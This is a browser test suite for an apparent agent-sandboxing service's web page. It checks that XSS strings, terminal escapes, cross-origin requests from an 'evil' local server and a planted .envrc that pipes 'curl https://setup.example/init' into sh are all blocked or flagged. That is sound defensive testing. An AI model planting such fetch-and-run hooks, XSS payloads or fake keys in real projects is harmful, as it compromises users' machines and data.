"""The page in a real browser, with real sessions and worktrees: what a person does there, and what an attacker tries.

With PADDOCK_PICTURES=DIRECTORY the pictures of docs/images are made, each page at two widths.
"""

import http.client
import json
import os
import shlex
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from policy import promises
from tests.support import browser, identity, paddock, served
from tests.support.browser import Browser, Tab
from tests.support.features import need
from tests.support.install import Installed, base_python
from tests.support.programs.scene import SWITCHES
from tests.support.served import Served

HOSTILE = (
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert('xss')>",
    "\"><svg onload=alert('xss')>",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\u202etxt.exe\u2066",
    "{{ 7 * 7 }}",
)
STRANGER = 4_321


@pytest.fixture(scope="module")
def service() -> Iterator[Served]:
    """A service that all tests here share."""
    need("chromium")
    need("userns")
    with served.started(sample_seconds=0.5, stdin_seconds=0.1, term_seconds=0.5) as running:
        yield running


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """A browser that all tests here share. It is root's where the suite is: the page lets root in."""
    with browser.browsing(tmp_path_factory.mktemp("profile")) as made:
        yield made


def invited(service: Served, *words: str) -> str:
    """An address that lets one browser in."""
    ended = service.cli("page", "--no-open", "--json", *words)
    assert ended.returncode == 0, ended.stderr
    return str(json.loads(ended.stdout)["address"])


@pytest.fixture
def tab(service: Served, chromium: Browser) -> Iterator[Tab]:
    """A tab that was let in; afterwards: nothing of an attacker's has run in it, nothing was asked for elsewhere."""
    address = invited(service)
    made = chromium.tab(address)
    yield made
    root = "http://" + urlsplit(address).netloc
    assert made.dialogs == [] or all("?" in each for each in made.dialogs), made.dialogs
    assert not [each for each in made.complaints if "favicon" not in each], made.complaints
    assert all(each.startswith((root, "data:,", "about:")) for each in made.requests), made.requests
    made.ask("Page.close")


def go(tab: Tab, path: str) -> None:
    """Opens another page of the same site, or this one anew, by a link.

    The one before is marked: a click into a page whose scripts have not run yet is obeyed without a question.
    """
    tab.run(f"window.isLeft = true; location.assign({json.dumps(path)})")
    there = f"location.pathname + location.search === {json.dumps(path)} && document.readyState === 'complete'"
    tab.until(f"!window.isLeft && {there}")


def test_two_agents_one_is_asked_about_and_goes_on(service: Served, tab: Tab) -> None:
    """What a person sees and does: a denial, a question, an answer, the agent that goes on, its end."""
    fetch = "curl -s -m 25 -o /dev/null -w '%{http_code}\\n' http://registry.example/"
    asking = f"echo 'reading the issue'; {fetch}; echo went on; sleep 60"
    denied = "curl -s -m 5 http://telemetry.example/; echo 'npm ci: added 214 packages'; sleep 60"
    names = ("codex-search", "claude-login")
    service.create("sh", "-c", asking, name=names[0], options=["--ask", "yes"])
    service.create("sh", "-c", denied, name=names[1], options=["--net", "proxy"])
    tab.until("document.querySelectorAll('#sessions tbody tr').length === 2")
    waits = "document.querySelector('#session-codex-search a[href=\"/denials\"]')?.innerText"
    tab.until(f"{waits} === 'an answer: registry.example:80'")
    tab.until("document.querySelector('#asked').innerText.trim() === '(1)'")
    tab.until("document.querySelector('#notes a')?.innerText === 'a question waits: codex-search: registry.example:80'")
    points = "document.querySelector('#session-claude-login polyline')?.getAttribute('points').split(' ').length"
    tab.until(f"{points} > 3")
    picture(tab, "sessions")
    tab.click("#notes a")
    tab.until("location.pathname === '/denials' && document.readyState === 'complete'")
    tab.until("document.querySelector('#denials')?.innerText.includes('telemetry.example')")
    assert "--allow-domain telemetry.example" in tab.text("#denials")
    assert "risk" in tab.text("#denials")
    picture(tab, "denials")
    go(tab, "/health")
    picture(tab, "health")
    go(tab, "/sessions/codex-search")
    tab.click("[id^=q-codex-search-][id$=-session]")
    tab.until("!document.querySelector('#questions').innerText.includes('registry.example')")
    assert tab.run("location.pathname") == "/sessions/codex-search"
    tab.until("document.querySelector('#output').innerText.includes('went on')")
    assert "403" not in tab.text("#output")
    for name in names:
        go(tab, f"/sessions/{name}")
        if name == "claude-login":
            tab.until("document.querySelector('#output')?.innerText.includes('added 214')")
            picture(tab, "session")
        tab.click("form[action$='/stop'] button")
        tab.until("document.querySelector('#state')?.innerText.startsWith('ended')")
    assert tab.dialogs == ["End this session? Its commits are harvested."] * 2
    go(tab, "/")
    tab.until("document.querySelector('#sessions').innerText.includes('No session is running')")
    service.create("sleep", "1", name="short")
    tab.until("document.querySelector('#notes').innerText.startsWith('a session has ended: short')")


def test_whatever_an_agent_writes_is_text(service: Served, tab: Tab) -> None:
    """Output, denials, labels and terminals that hold markup, scripts and escapes: nothing runs, all is shown."""
    names = ("hostile", "at-terminal")
    attack = "".join(HOSTILE)
    output = "\n".join(("\u0301" * 400, "x" * 100_000, *HOSTILE, "the end"))
    script = f"printf %s {shlex.quote(output)}; curl -s 'http://<img/'; curl -s http://xn--x.example/; sleep 60"
    service.create("sh", "-c", script, attack, name="hostile", options=["--net", "proxy"], labels={"ticket": attack})
    service.create("sh", "-c", script, name="at-terminal", options=["--net", "proxy"], stdin="terminal")
    foreign = "main script, main img, main svg:not(.graph), main iframe"
    for path in ("/", "/?all=1", "/denials", "/denials?ended=1", "/health", *(f"/sessions/{name}" for name in names)):
        go(tab, path)
        time.sleep(1.2)  # the stream has replaced what the page had
        assert tab.run(f"document.querySelectorAll('{foreign}').length") == 0
        assert tab.run("document.title").endswith("Paddock")
    go(tab, "/sessions/hostile")
    tab.until("document.querySelector('#output').innerText.includes('<script>alert')")
    assert r"\u202etxt.exe\u2066" in tab.text("#facts")
    assert r"\x1b[2J" in tab.text("#facts")
    go(tab, "/sessions/at-terminal")
    assert "red\n" in tab.text("#output")
    assert "the end" in tab.text("#output")
    for name in names:
        service.post(f"/v1/sessions/{name}/stop", {"wait": 20, "term_seconds": 0.1})


def test_the_page_is_used_by_keyboard_alone(service: Served, tab: Tab) -> None:
    """Tab reaches the skip link, the navigation and each form; Enter acts."""
    tab.type("\t")
    assert tab.run("document.activeElement.className") == "skip"
    seen = set()
    for _ in range(12):
        tab.type("\t")
        seen.add(tab.run("document.activeElement.innerText"))
    assert {"Sessions", "Denials", "Health", "log out"} <= seen
    tab.run("document.querySelector('nav a[href=\"/health\"]').focus()")
    tab.type("\r")
    tab.until("location.pathname === '/health'")


def faults(tab: Tab, scheme: str) -> Any:  # noqa: ANN401  # JSON
    """What axe-core, which the page has read, finds; in dark only what colours and places can change."""
    rules = ["color-contrast", "link-in-text-block", "scrollable-region-focusable"]
    options = json.dumps({} if scheme == "light" else {"runOnly": {"type": "rule", "values": rules}})
    return tab.run(f"axe.run({options}).then(found => found.violations.map(each => [each.id, each.nodes[0].html]))")


def test_no_page_is_hard_to_use_or_wider_than_the_window(service: Served, chromium: Browser) -> None:
    """By axe-core, of every page, in light and dark; on a desk and on a phone, where tables become cards."""
    rules = browser.axe().read_text(encoding="utf-8")
    fits = "document.documentElement.scrollWidth <= window.innerWidth"
    low = "document.querySelector('header').clientHeight < 100"
    service.create("sh", "-c", "curl -s http://x.example/; curl -s http://y.example/; sleep 60", "x" * 500,
                   name="plain", options=["--net", "proxy"])  # fmt: skip
    asking = "curl -s -m 28 http://asked.example/; sleep 60"
    service.create("sh", "-c", asking, name="asks", options=["--ask", "yes"])
    tab = chromium.tab(invited(service))
    tab.ask("Page.setBypassCSP", enabled=True)  # for the tool, which puts a style into the page
    for scheme, width in (("light", 1200), ("dark", 390)):
        tab.ask("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        tab.ask("Emulation.setDeviceMetricsOverride", width=width, height=800, deviceScaleFactor=1, mobile=False)
        for path in (
            "/",
            "/?all=1",
            "/denials",
            "/sessions/plain",
            "/health",
            "/sessions/none",
            "/sessions/plain/terminal",
        ):
            go(tab, path)
            time.sleep(0.5)
            tab.until(f"{fits} && {low}", 5)  # "/" is just loaded once more
            tab.run(rules)
            found = faults(tab, scheme)
            assert found == [], (scheme, path, found)
    for name in ("plain", "asks"):
        service.post(f"/v1/sessions/{name}/stop", {"wait": 20, "term_seconds": 0.1})
    tab.ask("Page.close")


def test_the_promises_are_tested_from_the_page(service: Served, tab: Tab) -> None:
    """As `paddock doctor` does; the page stays where it is."""
    go(tab, "/health")
    tab.click("form[action='/health/promises'] button")
    tab.until("document.querySelector('#promises table') !== null", 100)
    assert "every promise" in tab.text("#promises") or "agents can run here" in tab.text("#promises")
    assert tab.run("location.pathname") == "/health"
    tab.click("form[action='/health/unneeded'] button")
    tab.until("document.querySelector('#unneeded').innerText.length > 0", 60)


def test_a_session_is_frozen_and_let_go_on(chromium: Browser) -> None:
    """Nothing of it runs meanwhile; one that is frozen can be stopped, and ends in order."""
    with served.started(identity.root if os.geteuid() == 0 else identity.user, helpers=1) as service:
        service.create("sh", "-c", "n=0; while :; do n=$((n + 1)); echo $n; sleep 0.05; done", name="ticks")
        if not service.get("/v1/health").json["groups"]:
            refused = service.post("/v1/sessions/ticks/freeze", {"frozen": True})
            assert refused.json["errorType"] == "freeze-unavailable"
            return
        tab = chromium.tab(invited(service))
        go(tab, "/sessions/ticks")
        tab.click("form[action$='/freeze'] button")
        tab.until("document.querySelector('#state')?.innerText.includes('frozen')")
        time.sleep(0.3)
        before = service.log("ticks")
        time.sleep(0.5)
        assert service.log("ticks") == before
        tab.click("form[action$='/freeze'] button")
        tab.until("!document.querySelector('#state')?.innerText.includes('frozen')")
        deadline = time.monotonic() + 20
        while len(service.log("ticks")) == len(before):
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert service.post("/v1/sessions/ticks/freeze", {"frozen": True}).status == 204
        over = service.post("/v1/sessions/ticks/stop", {"wait": 30}).json
        assert (over["state"], over["frozen"]) == ("ended", False)
        tab.ask("Page.close")


# Attackers


def asked(address: str, path: str = "/", at: str = "127.0.0.1", **headers: str) -> tuple[int, str]:
    """Status and body that somebody gets who asks by himself."""
    port = urlsplit(address).port
    connection = http.client.HTTPConnection(at, port, timeout=20)
    connection.request("GET", path, headers={"Host": urlsplit(address).netloc, **headers})
    answer = connection.getresponse()
    found = answer.status, answer.read().decode()
    connection.close()
    return found


def test_a_page_of_somebody_elses_gets_nothing(service: Served, chromium: Browser, tmp_path: Path) -> None:
    """Another origin on the loopback, an agent's development server say, in the browser that was let in."""
    address = invited(service)
    root = "http://" + urlsplit(address).netloc
    chromium.tab(address)
    received: list[str] = []

    import http.server
    import threading

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            received.append(self.headers.get("Cookie") or "")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>evil</title><iframe id=f></iframe>")

        def log_message(self, *words: object) -> None:
            return

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        tab = chromium.tab(f"http://127.0.0.1:{server.server_address[1]}/")
        for script in (
            f"fetch('{root}/', {{credentials: 'include'}}).then(a => a.text()).catch(() => 'blocked')",
            f"fetch('{root}/leave', {{method: 'POST', credentials: 'include', mode: 'no-cors'}})"
            ".then(() => 'sent', () => 'blocked')",
            f"new Promise(done => {{ const s = new EventSource('{root}/live/sessions', {{withCredentials: true}});"
            " s.onmessage = () => done('read'); s.onerror = () => done('blocked'); })",
        ):
            assert tab.run(script) in ("blocked", "sent")
        tab.run(f"document.getElementById('f').src = '{root}/'")
        time.sleep(1)
        assert tab.run("(() => { try { return document.getElementById('f').contentDocument?.title ?? 'blocked' }"
                       " catch { return 'blocked' } })()") == "blocked"  # fmt: skip
        tab.go(f"http://localhost:{server.server_address[1]}/")
        server.shutdown()
    assert not any("paddock-page" in each for each in received)
    again = chromium.tab(root + "/")
    assert "Sessions" in again.text("nav")  # it was not logged out


@pytest.mark.parametrize("at", ["127.0.0.1", "[::1]"])
def test_another_user_gets_nothing_with_the_cookie(service: Served, at: str) -> None:
    """Nor with an address that nobody has used yet: the connection is refused by its owner."""
    if os.geteuid() != 0:
        pytest.skip("nobody else can be played")
    address = invited(service)
    path = "/enter" + address.partition("/enter")[2]
    stranger = ("setpriv", f"--reuid={STRANGER}", f"--regid={STRANGER}", "--clear-groups")
    words = ["curl", "-sS", "-m", "10", "-i", "--resolve", f"{urlsplit(address).netloc}:{at}", address]
    run = subprocess.run([*stranger, *words], capture_output=True, text=True, check=False, env={"PATH": os.defpath})
    said = run.stdout
    assert "peer-refused" in said
    assert "set-cookie" not in said
    assert asked(address, path, at.strip("[]"))[0] == 303


def test_a_browser_is_opened_with_what_no_jail_can_read(service: Served, chromium: Browser, public_dir: Path) -> None:
    """A jail without a PID namespace reads command lines, and is of the same user: nothing in them lets anybody in."""
    (public_dir / "opened").touch()
    note = service.paddock.who.give(public_dir / "opened")
    opener = 'mount -t tmpfs none /usr/local/sbin; printf "%s\\n" "$1" >/usr/local/sbin/xdg-open; shift; ' \
             'chmod 755 /usr/local/sbin/xdg-open; exec "$@"'  # fmt: skip
    fake = f'#!/bin/sh\nprintf %s "$*" >{note}'
    words = ["unshare", "-Urm", "sh", "-ec", opener, "sh", fake, *service.paddock.words("page")]
    env = service.paddock.who.environment({**service.env, "DISPLAY": ":0"})
    ended = subprocess.run(service.paddock.who.command(words), env=env, capture_output=True, text=True, check=False)
    assert ended.returncode == 0, ended.stderr
    address = ended.stdout.strip()
    deadline = time.monotonic() + 20
    while not (note.exists() and note.read_text()) and time.monotonic() < deadline:
        time.sleep(0.05)
    path = Path(note.read_text())
    token, name = address.partition("token=")[2], urlsplit(address).hostname
    assert token in path.read_text()
    assert token not in str(path)
    assert str(name) not in str(path)
    for backend in promises.BACKENDS:
        extra, switches = SWITCHES[backend]
        look = ("--git=readonly", *switches, "--net", "open", "--", "sh", "-c", f"cat {path}; cat .git")
        said = service.paddock.run(*look, env={**service.env, **extra})
        assert token not in said.stdout, backend
        assert said.stdout, said.stderr
    tab = chromium.tab(path.as_uri())
    tab.until("document.querySelector('nav')?.innerText.includes('Sessions')")
    assert not path.exists()
    assert asked(address, "/enter?token=" + token)[0] == 403
    tab.ask("Page.close")


def test_strangers_do_not_keep_a_browser_out(service: Served, chromium: Browser) -> None:
    """Connections without a session, more than there may be at all: those with one go on, and others come in."""
    address = invited(service)
    port, host = urlsplit(address).port, urlsplit(address).netloc
    answer = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    answer.request("GET", "/enter" + address.partition("/enter")[2], headers={"Host": host})
    entered = answer.getresponse()
    entered.read()
    cookie = {"Host": host, "Cookie": str(entered.getheader("set-cookie")).partition(";")[0]}
    answer.request("GET", "/", headers=cookie)
    assert b"Sessions" in answer.getresponse().read()
    strangers = [socket.create_connection(("127.0.0.1", port)) for _ in range(700)]
    assert service.get("/v1/health").status == 200
    assert asked(address, "/", **cookie)[0] == 200
    answer.request("GET", "/", headers=cookie)
    assert answer.getresponse().status == 200
    for each in strangers:
        each.close()
    answer.close()


@pytest.mark.parametrize("backend", promises.BACKENDS)
@pytest.mark.parametrize("options", [[], ["--net", "proxy"], ["--net", "open"], ["--reach", "PORT"]], ids=" ".join)
def test_a_jail_gets_nothing(service: Served, options: list[str], backend: str) -> None:
    """It cannot connect; where its network is the machine's, or the port was granted, it has no cookie."""
    address = invited(service)
    port = str(urlsplit(address).port)
    extra, switches = SWITCHES[backend]
    given = [*switches, *(each.replace("PORT", port) for each in options)]
    hosts = (urlsplit(address).netloc, f"127.0.0.1:{port}")
    fetch = "; ".join(f"curl -s -m 5 -i -H 'Host: {host}' http://127.0.0.1:{port}/" for host in hosts) + "; echo over"
    ended = service.paddock.run("--git=readonly", *given, "--", "sh", "-c", fetch, env={**service.env, **extra})
    assert "over" in ended.stdout, ended.stderr
    assert "nav aria-label" not in ended.stdout
    assert "set-cookie" not in ended.stdout
    if options in ([], ["--net", "proxy"]):
        assert "page-refused" not in ended.stdout


LISTENS = """
import socket, sys
port = int(sys.argv[1])
def listened(family, address, port, *options):
    made = socket.socket(family)
    try:
        for option in ((socket.SOL_SOCKET, socket.SO_REUSEADDR, 1), *options):
            made.setsockopt(*option)
        made.bind((address, port))
        made.listen()
    except OSError as error:
        return error.strerror
    return made
for family, address in ((socket.AF_INET6, "::1"), (socket.AF_INET6, "::"), (socket.AF_INET, "0.0.0.0")):
    for options in ((), ((socket.SOL_SOCKET, socket.SO_REUSEPORT, 1),)):
        print("page", listened(family, address, port, *options))
other = listened(socket.AF_INET6, "::1", 0)
print("other", other, flush=True)
if "wait" in sys.argv and not isinstance(other, str):
    print(other.getsockname()[1], flush=True)
    input()
"""
"""What a jail listens at: the page's port, under each address that means this machine, and any other."""


@pytest.mark.parametrize("backend", promises.BACKENDS)
def test_a_jail_is_never_taken_for_the_page(service: Served, chromium: Browser, backend: str) -> None:
    """Browsers ask ::1 first: a jail with the machine's network listens at other ports there, and not at the page's."""
    address = invited(service)
    port, (extra, switches) = str(urlsplit(address).port), SWITCHES[backend]
    words = ("--git=readonly", *switches, "--net", "open", "--", str(base_python()), "-c", LISTENS, port)
    jailed = service.paddock.run(*words, env={**service.env, **extra})
    lines = jailed.stdout.splitlines()
    assert lines[:6] == ["page Address already in use"] * 6, jailed.stderr
    assert lines[6].startswith("other <socket"), jailed.stdout
    path = "/enter" + address.partition("/enter")[2]
    assert asked(address, path, at="::1")[0] == 303
    tab = chromium.tab(invited(service))
    tab.until("document.querySelector('nav')?.innerText.includes('Sessions')")
    tab.ask("Page.close")


def test_the_page_is_not_shown_beside_a_jail_that_was_there_first(installed: Installed, public_dir: Path) -> None:
    """A configured port that a jail holds at ::1 is refused; another one is not.

    `paddock page` starts the service where there is none; a second one finds it, and it ends as any other.
    """
    who = identity.user(public_dir / "home")
    (public_dir / "place").mkdir()
    absent = served.prepare(paddock.make(who, installed, who.give(public_dir / "place")))
    words = ("run", "--git=readonly", "--net", "open", "--", str(base_python()), "-c", LISTENS, "1", "wait")
    made = absent.paddock
    jail = who.start(made.words(*words), cwd=made.worktree, env=absent.env)
    try:
        assert jail.stdout is not None
        port = next(line for line in jail.stdout if line.strip().isdigit()).decode().strip()
        refused = absent.cli("serve", "--http", f"127.0.0.1:{port}")
        assert refused.returncode == 125, refused.stderr
        assert "page-port" in refused.stderr
        assert "::1" in refused.stderr
    finally:
        jail.communicate(b"\n", timeout=served.PATIENCE)
    first = absent.cli("page", "--no-open", "--json", "--port", port)
    try:
        assert json.loads(first.stdout)["port"] == int(port), first.stderr
        assert "started the service" in first.stderr
        again = absent.cli("page", "--no-open", "--json", "--plain")
        assert json.loads(again.stdout)["port"] == int(port)
        assert json.loads(again.stdout)["address"].startswith("http://127.0.0.1:")
        other = absent.cli("page", "--no-open", "--port", "1")
        assert "page-port" in other.stderr
    finally:
        ended(absent)


def ended(absent: Served) -> None:
    """Ends a service that a verb has started."""
    pid = absent.get("/v1/health").json["pid"]
    os.kill(pid, 15)
    deadline = time.monotonic() + 20
    while served.alive(pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not served.alive(pid)


def test_a_session_is_typed_into_from_the_browser(service: Served, tab: Tab) -> None:
    """One writes: who comes second only watches until it takes over; the terminal of a session that is over says so."""
    link = "printf '\\033]8;;http://evil.example/\\033\\\\link\\033]8;;\\033\\\\ \\033[38;2;1;2;3mtrue\\033[0m\\n'"
    script = f'{link}; stty size; while read line; do echo "got <$line>"; done'
    service.create("sh", "-c", script, name="typed", stdin="terminal")
    words = ["script", "-qec", shlex.join(service.paddock.words("attach", "typed")), "/dev/null"]
    other = subprocess.Popen(
        service.paddock.who.command(words),
        env=service.paddock.who.environment(service.env), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    )  # fmt: skip
    assert other.stdout is not None
    while b"true" not in other.stdout.readline():
        pass
    go(tab, "/sessions/typed/terminal")
    tab.until("document.querySelector('#terminal-state').innerText === 'attached, you watch: another client writes'")
    tab.until("document.querySelector('.xterm-rows')?.innerText.includes('true')")
    pressed = "[...document.querySelectorAll('[aria-pressed=true]')].map(each => each.innerText).join()"
    assert tab.run(pressed) == "watch"
    tab.run("document.querySelector('.xterm-helper-textarea').focus()")
    tab.type("x")
    tab.until("document.querySelector('#terminal-state').innerText.includes('to type, choose')")
    tab.click("[data-mode=take]")
    tab.until("document.querySelector('#terminal-state').innerText === 'attached, you write'")
    assert tab.run(pressed) == "write"
    tab.type("hello <b>\r")
    tab.until("document.querySelector('.xterm-rows').innerText.includes('got <hello <b>>')")
    refused = service.cli("attach", "typed")
    assert "session-has-writer" in refused.stderr
    other.kill()
    other.communicate()
    assert tab.run("document.querySelectorAll('#terminal style, #terminal b').length") == 0
    assert tab.run("getComputedStyle(document.querySelector('.xterm-rows > div')).lineHeight") != "normal"
    service.post("/v1/sessions/typed/stop", {"wait": 20, "term_seconds": 0.1})
    tab.until("document.querySelector('#terminal-state').innerText === 'the session is over'")
    assert "what it has written" in tab.text("main")
    assert tab.run("[...document.querySelectorAll('[data-mode]')].every(each => each.hidden)")
    go(tab, "/sessions/typed/terminal")  # where it is already: what it waits for may be the page of before
    tab.until("document.querySelector('#terminal') === null")
    tab.until("document.querySelector('main')?.innerText.includes('what it has written')")
    assert tab.run("document.querySelector('#terminal, #terminal-state, main button')") is None


def test_a_terminals_history_holds_nobody_up_and_asks_nothing(service: Served, chromium: Browser) -> None:
    """Numbers without bounds, queries of long ago and invisible marks, on a phone; queries of now are answered."""
    counts = "".join(
        f"\\033[2147483647{each}" for each in ("S", "T", "L", "M", "@", "P", "b", "X", "I", "Z", " @", " A", "'}")
    )
    counts += "\\033[900S" * 800
    queries = r"\033[c\033[>c\033[6n\033[5n\033P$qm\033\\\033]10;?\007\033]4;1;?\007"
    marks = "bidi\u202e\u2066 zero\u200b\u3164 join\u200d"
    show = f'printf "{counts}{queries}\\nready {marks}\\n"'
    read = "dd bs=1 count={} 2>/dev/null | od -c"
    script = f'stty -echo raw; {show}; {read.format(5)}; printf "\\033[6n"; {read.format(3)}; sleep 60'
    service.create("sh", "-c", script, name="history", stdin="terminal")
    deadline = time.monotonic() + 20
    while "ready" not in service.log("history") and time.monotonic() < deadline:
        time.sleep(0.05)
    tab = chromium.tab(invited(service), width=390)
    go(tab, "/sessions/history/terminal")
    tab.until("document.querySelector('#terminal-state').innerText === 'attached, you write'", 10)
    tab.until("document.querySelector('.xterm-rows').innerText.includes('ready')")
    assert "bidi\ufffd\ufffd zero\ufffd\ufffd join\u200d" in tab.text(".xterm-rows").replace("\xa0", " ")
    assert tab.run("document.documentElement.scrollWidth <= window.innerWidth")
    tab.type("typed")
    tab.until("document.querySelector('.xterm-rows').innerText.includes('0000005')")
    assert "t   y   p   e   d" in tab.text(".xterm-rows").replace("\xa0", " ")
    tab.until("document.querySelector('.xterm-rows').innerText.includes('0000003')")
    assert "033   [" in tab.text(".xterm-rows").replace("\xa0", " ")
    service.post("/v1/sessions/history/stop", {"wait": 20, "term_seconds": 0.1})
    tab.ask("Page.close")


# Review and merge, of what real agents did in real worktrees.

COMMIT = "git add -A && git -c user.name=Agent -c user.email=agent@example.org commit -q -m"
LOGIN = f"""printf 'export PATH=$PWD/bin:$PATH\\ncurl -s https://setup.example/init | sh\\n' > .envrc
mkdir -p src && printf 'def login(user):\\n    return user\\n' > src/login.py && printf '1\\n' > version
printf 'API_KEY = "sk-ant-0123456789abcdefghijABCD"\\n' > src/settings.py
{COMMIT} 'login: Users can log in.' && printf 'def login(user: str) -> str:\\n    return user.lower()\\n' > src/login.py
{COMMIT} 'login: Names are in lower case.'"""
SEARCH = f"mkdir -p src && echo 2 > version && echo 'def search(): pass' > src/search.py && {COMMIT} 'search: Begun.'"
PICTURES = os.environ.get("PADDOCK_PICTURES")
WIDTHS = {"wide": 1280, "narrow": 400}

_ELSEWHERE = """(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        walker.currentNode.data = walker.currentNode.data.replace(/\\/\\S+\\/t-\\w+\\/place\\//g, '/home/me/src/');
    }
})()"""
"""For pictures: directories as they are on a person's machine."""


@pytest.fixture(scope="module")
def worked(service: Served) -> dict[str, Any]:
    """Two tickets, worked on by agents, and not merged: their worktrees by ticket."""
    tickets = [{"ticket": name, "command": ["sh", "-c", f"set -e; {script}"]}
               for name, script in (("login", LOGIN), ("search", SEARCH))]  # fmt: skip
    body = {
        "name": "sprint", "repository": str(service.paddock.main), "tickets": tickets, "merge": False,
        "environment": service.paddock.who.environment(service.env),
    }  # fmt: skip
    done = service.post("/v1/ticket-runs?wait=120", body)
    assert done.status == 201, done.raw
    assert done.json["state"] == "ended", done.json
    (Path(next(each["worktree"] for each in done.json["steps"] if each["ticket"] == "search")) / "notes").write_text(
        "x\n"
    )
    return {each["ticket"]: each for each in service.get("/v1/worktrees").json["worktrees"]}


def picture(tab: Tab, name: str) -> None:
    """Keeps a picture of a page, where they are wanted, at both widths."""
    if PICTURES is None:
        return
    for width, pixels in WIDTHS.items():
        tab.ask("Emulation.setDeviceMetricsOverride", width=pixels, height=700, deviceScaleFactor=1, mobile=False)
        tab.run("new Promise(done => setTimeout(done, 300))")
        tab.run(_ELSEWHERE)
        tab.screenshot(Path(PICTURES) / f"page-{name}-{width}.png")
    tab.ask("Emulation.setDeviceMetricsOverride", width=1200, height=800, deviceScaleFactor=1, mobile=False)


def trunk(service: Served) -> str:
    """Where the main checkout is."""
    said = service.paddock.who.run(["git", "rev-parse", "HEAD"], cwd=service.paddock.main).stdout
    return str(said).strip()


def test_two_worktrees_are_reviewed_forecast_merged_and_taken_back(
    service: Served, chromium: Browser, worked: dict[str, Any], tab: Tab
) -> None:
    """The planted .envrc comes first; the order is changed; the merge conflicts, says where, and is undone.

    Before that every page is looked at for what makes it hard to use, here, so that the work is made but once.
    """
    _not_hard_to_use_or_too_wide(service, worked, chromium)
    go(tab, "/worktrees")
    picture(tab, "worktrees")
    go(tab, f"/worktrees/{worked['login']['worktree_id']}")
    first = tab.run("document.querySelector('#marked tbody tr').innerText")
    assert ".envrc" in first
    assert "a shell or its environment manager runs it" in first
    assert tab.run("document.querySelector('.file h3').innerText").startswith(".envrc")
    assert "looks like an Anthropic key" in tab.text()
    assert "login: Names are in lower case." in tab.text()
    picture(tab, "review")
    tab.click("#marked tbody tr a")
    tab.until("document.querySelector('.file:target') !== null")
    go(tab, f"/worktrees/{worked['login']['worktree_id']}?view=split")
    assert tab.run("document.querySelectorAll('table.split').length") >= 4
    go(tab, f"/worktrees/{worked['search']['worktree_id']}")
    assert "in no commit that has been harvested" in tab.text()
    assert "notes" in tab.text()

    before = trunk(service)
    go(tab, "/merges")
    names = "[...document.querySelectorAll('ol.order strong')].map(each => each.innerText).join()"
    if tab.run(names) == "search,login":  # they were made at the same time
        tab.click("ol.order li:last-child button[data-move=up]")
    tab.until(f"{names} === 'login,search'")
    tab.click("ol.order li:last-child button[data-move=up]")
    tab.until(f"{names} === 'search,login'")
    tab.run("""(() => {
        const [top, low] = document.querySelectorAll('ol.order li');
        const box = top.getBoundingClientRect();
        const sent = (on, kind, more) => on.dispatchEvent(new DragEvent(kind,
            {bubbles: true, cancelable: true, dataTransfer: new DataTransfer(), ...more}));
        sent(low, 'dragstart'); sent(top, 'dragover', {clientY: box.top + 1}); sent(low, 'dragend');
    })()""")
    tab.until(f"{names} === 'login,search'")
    tab.click("ol.order li:last-child button[data-move=up]")
    tab.click("#forecast-button")
    tab.until("document.querySelector('#forecast') !== null && document.readyState === 'complete'")
    tab.until(f"{names} === 'search,login'")
    assert "1 file" in tab.text("table.matrix")
    assert "is merged" in tab.text("#result li:first-child")
    assert "conflicts" in tab.text("#result li:last-child")
    assert tab.text("ol.order").count("reviewed") == 2
    assert "not reviewed" not in tab.text("ol.order")
    assert "version" in tab.text("#forecast table.cards")
    picture(tab, "forecast")
    assert trunk(service) == before
    tab.click("#merge-button")
    tab.until("location.pathname.startsWith('/merges/begun/')")
    tab.until("document.querySelector('#merge h2')?.innerText.includes('login conflicts')")
    assert "version" in tab.text("#merge table.cards")
    assert trunk(service) != before
    picture(tab, "merge")
    tab.click("#roll-back")
    tab.until("document.querySelector('#merge')?.innerText.includes('rolled-back')")
    assert trunk(service) == before
    assert tab.dialogs == ["Merge what is marked, in this order?", "Take this whole run back?"]
    go(tab, "/tickets/sprint")
    assert "login" in tab.text(".board")
    picture(tab, "tickets")


def test_what_waits_is_harvested_from_the_page(service: Served, tab: Tab) -> None:
    """What a killed session has left comes home, and is shown; what a strict one has left stays where it is."""
    work = f"echo x >work; {COMMIT} 'Of a killed one.'; echo ready; exec cat"
    envrc = f"echo x >.envrc; {COMMIT} 'For a shell.'; echo ready; exec cat"
    for ticket, script, options in (("killed", work, ()), ("strict", envrc, ("--strict-handoff",))):
        made = service.post("/v1/worktrees", {"repository": str(service.paddock.main), "ticket": ticket}).json
        root = made["main"]["path"]
        with paddock.Session(
            service.paddock, command=("sh", "-c", script), options=("--worktree", root, *options)
        ) as at:
            at.kill()
        go(tab, "/worktrees")
        assert "not harvested" in tab.run(
            f"document.querySelector('a[href$={made['worktree_id']}]').closest('tr').innerText"
        )
        go(tab, f"/worktrees/{made['worktree_id']}")
        assert "not in this review before it is harvested" in tab.text()
        assert "Of a killed one." not in tab.text()
        tab.click("#harvest")
        tab.until("location.pathname.endsWith('/harvest') && document.readyState === 'complete'")
        head = service.paddock.who.run(["git", "log", "-1", "--format=%s"], cwd=Path(root)).stdout
        if ticket == "killed":
            assert "Of a killed one." in tab.text()
            deadline = time.monotonic() + 30
            while "harvested" in tab.text("dl"):  # the service, which harvests what waits, too, is not yet through
                assert time.monotonic() < deadline
                go(tab, f"/worktrees/{made['worktree_id']}")
            assert head == "Of a killed one.\n"
        else:
            assert ".envrc" in tab.text("#said")
            assert "For a shell." not in head
            tab.complaints.clear()  # of the status, which is a refusal's


